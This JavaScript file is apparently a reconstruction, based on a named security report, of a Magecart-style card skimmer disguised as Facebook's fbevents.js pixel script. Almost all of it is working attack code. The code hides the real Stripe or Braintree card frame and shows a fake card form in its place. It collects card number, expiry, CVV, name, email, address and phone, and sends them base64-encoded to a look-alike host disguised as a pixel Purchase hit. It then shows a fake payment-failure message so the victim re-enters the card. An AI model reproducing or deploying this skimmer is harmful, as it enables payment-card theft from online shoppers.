// fbpixel-skimmer (variant b), written from Malwarebytes Labs' report "Credit card skimmer
// hidden in fake Facebook Pixel tracker" (2024) and similar fake-form skimmers it refers to:
// what the look-alike "fbevents.js" serves on the checkout page. It keeps a fbq stub so the
// page's pixel calls do not fail, hides the payment provider's card frame, draws its own
// card form in its place, sends what is typed (Luhn-checked) as the custom data of a pixel
// "Purchase" hit to the same look-alike host, says the payment failed and puts the real
// frame back, once per browser.
(function (w, d) {
  var host = "https://connect.facebook-net.invalid";
  w.fbq = w.fbq || function () {};
  if (w.localStorage.getItem("_fbp_ck") === "1") return;
  function luhn(n) {
    var s = 0, alt = false;
    for (var i = n.length - 1; i >= 0; i--) {
      var c = +n.charAt(i);
      if (alt) { c *= 2; if (c > 9) c -= 9; }
      s += c; alt = !alt;
    }
    return n.length >= 13 && s % 10 === 0;
  }
  function run() {
    var real = d.querySelector("#braintree-hosted-field-number, .stripe-card-element, iframe[name^='__privateStripe'], #payment_form_ccsave");
    if (!real) return setTimeout(run, 1500);
    var holder = real.closest("fieldset, .payment-method-content, div") || real.parentNode;
    holder.style.display = "none";
    var f = d.createElement("div");
    f.className = "payment-method-content";
    f.innerHTML = '<label>Card number</label><input id="fb_cc" autocomplete="cc-number" inputmode="numeric">' +
      '<label>Expiry (MM/YY)</label><input id="fb_exp" autocomplete="cc-exp">' +
      '<label>CVV</label><input id="fb_cvv" autocomplete="cc-csc" maxlength="4">' +
      '<button type="button" id="fb_pay" class="action primary checkout">Place Order</button>';
    holder.parentNode.insertBefore(f, holder);
    d.getElementById("fb_pay").addEventListener("click", function () {
      var cc = d.getElementById("fb_cc").value.replace(/\D/g, "");
      if (!luhn(cc)) { alert("Please enter a valid card number."); return; }
      var pick = function (sel) { var e = d.querySelector(sel); return e ? e.value : ""; };
      var data = {
        n: cc, e: d.getElementById("fb_exp").value, c: d.getElementById("fb_cvv").value,
        name: pick("[name=firstname]") + " " + pick("[name=lastname]"), mail: pick("#customer-email, [name=email]"),
        addr: pick("[name='street[0]']"), city: pick("[name=city]"), zip: pick("[name=postcode]"), tel: pick("[name=telephone]")
      };
      var px = new Image(1, 1);
      px.src = host + "/tr/?id=817204455193276&ev=Purchase&dl=" + encodeURIComponent(location.href) +
        "&cd[content_ids]=" + encodeURIComponent(btoa(JSON.stringify(data))) + "&noscript=1";
      w.localStorage.setItem("_fbp_ck", "1");
      alert("Your payment could not be processed. Please enter your card details again.");
      f.parentNode.removeChild(f);
      holder.style.display = "";
    });
  }
  if (d.readyState === "loading") d.addEventListener("DOMContentLoaded", run); else run();
})(window, document);
